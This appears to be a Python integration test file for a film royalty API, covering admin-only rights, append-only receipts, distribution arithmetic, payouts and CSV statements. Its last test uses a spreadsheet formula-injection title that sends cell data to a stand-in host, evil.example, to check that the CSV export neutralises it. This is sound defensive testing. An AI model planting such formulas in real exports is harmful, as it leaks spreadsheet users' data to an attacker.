"""Royalty routes through the API: who may do what, shapes, and the whole chain adding up."""

from __future__ import annotations

from chalicelib import clock
from chalicelib.domain import royalties as rules
from tests import factories
from tests.integration.royalty_helpers import back

PERIOD = rules.period_of(clock.today())


def film_with_coproducers(amounts):
    producer = factories.producer()
    film = factories.make_film(producer)
    users = [factories.member() for _ in amounts]
    for user, cents in zip(users, amounts):
        back(film["film_id"], user.user_id, cents)
    return film["film_id"], producer, users


def test_rights_are_set_by_admins_only(api):
    film_id, producer, _ = film_with_coproducers([])
    body = {"description": "Net producer share", "coproducer_rate_bps": 7500}
    assert api.put(f"/films/{film_id}/rights", body, caller=producer).status_code == 403
    saved = api.put(f"/films/{film_id}/rights", body, caller=factories.admin())
    assert saved.status_code == 200 and saved.data["coproducer_rate_bps"] == 7500
    bad = api.put(f"/films/{film_id}/rights", {**body, "coproducer_rate_bps": 10_001}, caller=factories.admin())
    assert bad.status_code == 400 and bad.data["error"]["field"] == "coproducer_rate_bps"
    assert api.put("/films/nope/rights", body, caller=factories.admin()).status_code == 404


def test_receipts_are_append_only_and_idempotent(api):
    film_id, producer, _ = film_with_coproducers([])
    admin = factories.admin()
    body = {"period": PERIOD, "rights_received_cents": 100_000, "reference": "SACEM 2026/11 #1"}
    first = api.post(f"/films/{film_id}/receipts", body, caller=admin)
    assert first.status_code == 201 and first.data["distributed"] is False
    assert api.post(f"/films/{film_id}/receipts", body, caller=admin).status_code == 200
    changed = api.post(f"/films/{film_id}/receipts", {**body, "rights_received_cents": 5}, caller=admin)
    assert changed.status_code == 409 and changed.data["error"]["field"] == "reference"
    correction = api.post(f"/films/{film_id}/receipts", {
        "period": PERIOD, "rights_received_cents": -20_000, "reference": "SACEM 2026/11 #1 corrected",
        "corrects": first.data["receipt_id"]}, caller=admin)
    assert correction.status_code == 201
    future = api.post(f"/films/{film_id}/receipts", {**body, "period": "2999-01", "reference": "x"}, caller=admin)
    assert future.status_code == 422 and future.data["error"]["field"] == "period"
    assert api.post(f"/films/{film_id}/receipts", {**body, "period": "2026-13"}, caller=admin).status_code == 400
    assert api.post(f"/films/{film_id}/receipts", body, caller=producer).status_code == 403
    listed = api.get(f"/films/{film_id}/receipts", caller=admin).data["items"]
    assert sorted(r["rights_received_cents"] for r in listed) == [-20_000, 100_000]


def test_the_whole_chain_adds_up(api):
    film_id, producer, users = film_with_coproducers([5000, 2500, 2500, 3333])
    admin = factories.admin()
    api.post(f"/films/{film_id}/receipts", {"period": PERIOD, "rights_received_cents": 100_000,
                                           "reference": f"demo-{film_id}"}, caller=admin)
    run = api.post("/admin/distributions", {"period": PERIOD}, caller=admin)
    assert run.status_code == 200, run.data
    mine = next(f for f in run.data["films"] if f["film_id"] == film_id)
    assert mine["credited_cents"] == mine["pool_cents"] == 80_000
    dist = api.get(f"/films/{film_id}/distributions/{PERIOD}", caller=producer)
    assert dist.status_code == 200 and dist.data["status"] == "done" and dist.data["coproducers"] == 4
    assert api.get(f"/films/{film_id}/distributions/{PERIOD}", caller=users[0]).status_code == 403
    assert api.get(f"/films/{film_id}/distributions/1999-01", caller=producer).status_code == 404
    total = 0
    for user, cents in zip(users, [5000, 2500, 2500, 3333]):
        statement = api.get(f"/me/statements/{PERIOD}", caller=user).data
        line, = statement["lines"]
        assert line["film_confirmed_cents"] == 13_333 and line["your_confirmed_cents"] == cents
        assert abs(line["amount_cents"] * 13_333 - 80_000 * cents) < 13_333  # within a cent of the share
        total += statement["total_cents"]
    assert total == 80_000
    csv = api.client.http.get(f"/me/statements/{PERIOD}?format=csv", headers=factories.auth(users[0]))
    assert csv.headers["Content-Type"].startswith("text/csv")
    assert csv.body.decode().splitlines()[0].startswith("film_id,title,batch,rights_received_cents")
    royalties = api.get("/me/royalties", caller=users[0]).data
    assert royalties["balance_cents"] == 30_001 and royalties["credits"][0]["amount_cents"] == 30_001
    portfolio = api.get("/me/portfolio", caller=users[0]).data["items"]
    assert portfolio == [{**portfolio[0], "film_id": film_id, "your_confirmed_cents": 5000,
                          "film_confirmed_cents": 13_333, "share_ppm": 375_009, "royalties_received_cents": 30_001}]


def test_payout_account_and_failed_payouts(api):
    user = factories.member()
    retired = api.put("/me/payout-account", {"stripe_account_id": "acct_1Abc"}, caller=user)
    assert retired.status_code == 410 and retired.data["error"]["code"] == "gone"  # pasted ids are no more
    assert api.get("/me/payout-account", caller=user).data["onboarding"] == "not_started"
    assert api.get("/admin/payouts?status=failed", caller=user).status_code == 403
    listed = api.get("/admin/payouts?status=failed", caller=factories.admin())
    assert listed.status_code == 200 and "items" in listed.data


def test_royalty_routes_need_a_token_and_admin_runs(api):
    assert api.get("/me/royalties").status_code == 401
    assert api.get("/me/portfolio").status_code == 401
    assert api.post("/admin/distributions", {"period": PERIOD}, caller=factories.member()).status_code == 403
    future = api.post("/admin/distributions", {"period": "2999-12"}, caller=factories.admin())
    assert future.status_code == 422 and future.data["error"]["field"] == "period"
    assert api.get("/me/statements/2026-1", caller=factories.member()).status_code == 400


def test_the_readme_walkthrough_picks_an_open_or_funded_film_never_a_failed_one(api):
    """The royalty walk-through of README.md, run on a co-producer whose first film failed."""
    import json
    import re
    import subprocess
    import sys
    from pathlib import Path

    from chalicelib.adapters.tables import FilmRecord

    failed, open_film = factories.make_film()["film_id"], factories.make_film()["film_id"]
    user = factories.Caller(user_id=f"walk-{failed[:8]}")
    for film_id in (failed, open_film):
        back(film_id, user.user_id, 2000)
    FilmRecord(failed).update(actions=[FilmRecord.status.set("failed")])
    portfolio = api.get("/me/portfolio", caller=user).data
    assert {i["film_id"]: i["film_status"] for i in portfolio["items"]} == {failed: "failed", open_film: "open"}
    readme = (Path(__file__).parents[2] / "README.md").read_text()
    script = re.search(r"/me/portfolio .*\n\s*\| python3 -c '([^']+)'", readme).group(1)
    for order in (portfolio["items"], list(reversed(portfolio["items"]))):
        picked = subprocess.run([sys.executable, "-c", script], input=json.dumps({**portfolio, "items": order}),
                                capture_output=True, text=True, check=True).stdout.strip()
        assert picked == open_film
    refused = api.post(f"/films/{failed}/receipts", {"period": "2025-01", "rights_received_cents": 100,
                                                     "reference": "walk"}, caller=factories.admin())
    assert refused.status_code == 409 and refused.data["error"]["code"] == "film_not_funded"


def test_a_title_typed_as_a_formula_reaches_the_statement_csv_as_text(api):
    import csv as csv_module
    import io

    title = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
    producer, user = factories.producer(), factories.member()
    film_id = factories.make_film(producer, title=title)["film_id"]
    back(film_id, user.user_id, 5000)
    admin = factories.admin()
    api.post(f"/films/{film_id}/receipts", {"period": PERIOD, "rights_received_cents": 10_000,
                                           "reference": f"formula-{film_id}"}, caller=admin)
    assert api.post("/admin/distributions", {"period": PERIOD}, caller=admin).status_code == 200
    assert api.get(f"/me/statements/{PERIOD}", caller=user).data["lines"][0]["title"] == title  # JSON as typed
    response = api.client.http.get(f"/me/statements/{PERIOD}?format=csv", headers=factories.auth(user))
    (row,) = csv_module.DictReader(io.StringIO(response.body.decode()))
    assert row["title"] == "'" + title and row["film_id"] == film_id
